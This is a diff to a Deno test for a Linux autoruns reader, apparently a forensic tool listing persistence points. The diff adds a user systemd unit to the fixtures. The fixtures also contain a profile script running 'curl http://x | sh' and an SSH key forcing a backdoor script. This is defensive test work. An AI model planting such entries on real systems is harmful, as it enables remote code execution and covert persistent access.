@@ -25,6 +25,7 @@ Deno.test("readLinuxAutoruns: units, rc.local, init.d, preload, profiles, keys a
     "/etc/profile": "export PATH\n",
     "/etc/profile.d/x.sh": "curl http://x | sh\n",
     "/home/mallory/.bashrc": "alias ls=evil\n",
+    "/home/mallory/.config/systemd/user/sync.service": "[Service]\nExecStart=%h/.local/bin/sync\n",
     "/home/mallory/.ssh/authorized_keys":
       'command="/opt/backdoor.sh -q",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB mallory@box\n' +
       "# a comment\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ\n",
@@ -37,6 +38,13 @@ Deno.test("readLinuxAutoruns: units, rc.local, init.d, preload, profiles, keys a
     await Deno.symlink(
       "/etc/systemd/system/agent.service",
       join(root, "etc/systemd/system/multi-user.target.wants/agent.service"),
+    );
+    await Deno.mkdir(join(root, "home/mallory/.config/systemd/user/default.target.wants"), {
+      recursive: true,
+    });
+    await Deno.symlink(
+      "/home/mallory/.config/systemd/user/sync.service",
+      join(root, "home/mallory/.config/systemd/user/default.target.wants/sync.service"),
     );
     const read = readLinuxAutoruns(root);
     deepStrictEqual(read.skips, []);
@@ -91,6 +99,15 @@ Deno.test("readLinuxAutoruns: units, rc.local, init.d, preload, profiles, keys a
         "--min",
         false,
         null,
+      ],
+      [
+        "systemd-unit",
+        "/home/mallory/.config/systemd/user/sync.service",
+        "sync.service ExecStart",
+        "/home/mallory/.local/bin/sync",
+        "",
+        true,
+        "mallory",
       ],
       [
         "shell-profile",
